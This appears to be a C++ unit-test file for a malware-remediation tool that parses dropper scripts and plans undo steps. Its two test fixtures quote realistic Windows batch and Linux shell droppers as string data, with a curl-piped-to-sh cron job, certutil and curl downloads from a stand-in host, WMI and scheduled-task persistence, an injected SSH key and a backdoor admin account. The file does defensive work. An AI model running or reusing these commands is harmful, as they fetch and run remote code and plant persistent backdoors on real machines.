// The plan undoes what a dropper did, named as the dropper named it.
#include "sample/dropper_undo.h"

#include <set>

#include <gtest/gtest.h>

#include "formats/script/script.h"

namespace msw::sample {
namespace {

std::vector<UndoStep> undo_for(std::string_view script) {
  const auto a = formats::script::analyse(script);
  nlohmann::json commands = nlohmann::json::array();
  for (const auto& c : a.commands)
    commands.push_back(
        {{"kind", c.kind}, {"attack", c.attack}, {"line", c.line}, {"text", c.text}, {"fields", c.fields}});
  return dropper_undo(commands);
}

std::set<std::string> described(const std::vector<UndoStep>& steps) {
  std::set<std::string> out;
  for (const auto& s : steps)
    out.insert(std::string(model::to_string(s.action.kind)) + " " + s.action.target +
               (s.action.expected_text.empty() ? "" : " | " + s.action.expected_text) + " @" + std::to_string(s.line));
  return out;
}

TEST(DropperUndo, EveryHostChangeOfABatchDropperIsReversed) {
  const auto steps = undo_for(
      "@echo off\r\n"
      "schtasks /create /tn \"Mysa9\" /tr \"cmd /c start c:\\windows\\debug\\lsmose.exe\" /ru system /sc onstart /F\r\n"
      "wmic /namespace:\\\\root\\subscription PATH __EventFilter CREATE Name=\"fuckyoumm3\", "
      "EventNameSpace=\"root\\cimv2\", "
      "QueryLanguage=\"WQL\", Query=\"SELECT * FROM __InstanceModificationEvent WITHIN 10800\"\r\n"
      "wmic /namespace:\\\\root\\subscription PATH CommandLineEventConsumer CREATE Name=\"fuckyoumm4\", "
      "CommandLineTemplate=\"cmd /c c:\\windows\\debug\\lsmose.exe\"\r\n"
      "wmic /namespace:\\\\root\\subscription PATH __FilterToConsumerBinding CREATE "
      "Filter=\"__EventFilter.Name=\\\"fuckyoumm3\\\"\", "
      "Consumer=\"CommandLineEventConsumer.Name=\\\"fuckyoumm4\\\"\"\r\n"
      "reg add \"HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\" /v \"start\" /d \"c:\\x.exe\" "
      "/f\r\n"
      "echo 127.0.0.1 www.360.cn >> %windir%\\system32\\drivers\\etc\\hosts\r\n"
      "certutil -urlcache -split -f http://203.0.113.9/ok.exe c:\\windows\\temp\\ok.exe\r\n"
      "attrib +s +h c:\\windows\\debug\\lsmose.exe\r\n"
      "net user admin$ P@ss123 /add\r\n"
      "sc create xWinWpdSrv binpath= c:\\windows\\debug\\svc.exe start= auto\r\n"
      "sc config wuauserv start= disabled\r\n");
  EXPECT_EQ(
      described(steps),
      (std::set<std::string>{
          "remove_scheduled_task Mysa9 @2",
          "remove_wmi_subscription CommandLineEventConsumer.Name=\"fuckyoumm4\" __EventFilter.Name=\"fuckyoumm3\" @3",
          "remove_autorun HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\start @6",
          "restore_hosts_file C:\\Windows\\System32\\drivers\\etc\\hosts | 127.0.0.1 www.360.cn @7",
          "quarantine_file c:\\windows\\temp\\ok.exe @8", "quarantine_file c:\\windows\\debug\\lsmose.exe @9",
          "rotate_credentials admin$ @10",
          "remove_service xWinWpdSrv @11",  // sc config of a Windows service is not undone: its old value is unknown
      }));
}

TEST(DropperUndo, AShellDropperIsReversedLineByLine) {
  const auto steps = undo_for(
      "#!/bin/sh\n"
      "echo '*/5 * * * * curl -fsSL http://203.0.113.9/pm.sh|sh' >> /etc/crontab\n"
      "(crontab -l; echo '@reboot /tmp/.x/kworker') | crontab -\n"
      "echo 'ssh-rsa AAAAB3NzaC1yc2E worm@x' >> /root/.ssh/authorized_keys\n"
      "echo '127.0.0.1 minexmr.com' >> /etc/hosts\n"
      "systemctl enable kworker.service\n"
      "curl -o /tmp/.x/kworker http://203.0.113.9/k\n");
  EXPECT_EQ(described(steps),
            (std::set<std::string>{
                "remove_cron_entry /etc/crontab | */5 * * * * curl -fsSL http://203.0.113.9/pm.sh|sh @2",
                "remove_cron_entry /var/spool/cron/crontabs/root | @reboot /tmp/.x/kworker @3",
                "remove_cron_entry /var/spool/cron/root | @reboot /tmp/.x/kworker @3",
                "remove_autorun /root/.ssh/authorized_keys | ssh-rsa AAAAB3NzaC1yc2E worm@x @4",
                "restore_hosts_file /etc/hosts | 127.0.0.1 minexmr.com @5",
                "remove_service kworker.service @6",
                "quarantine_file /tmp/.x/kworker @7",
            }));
}

}  // namespace
}  // namespace msw::sample
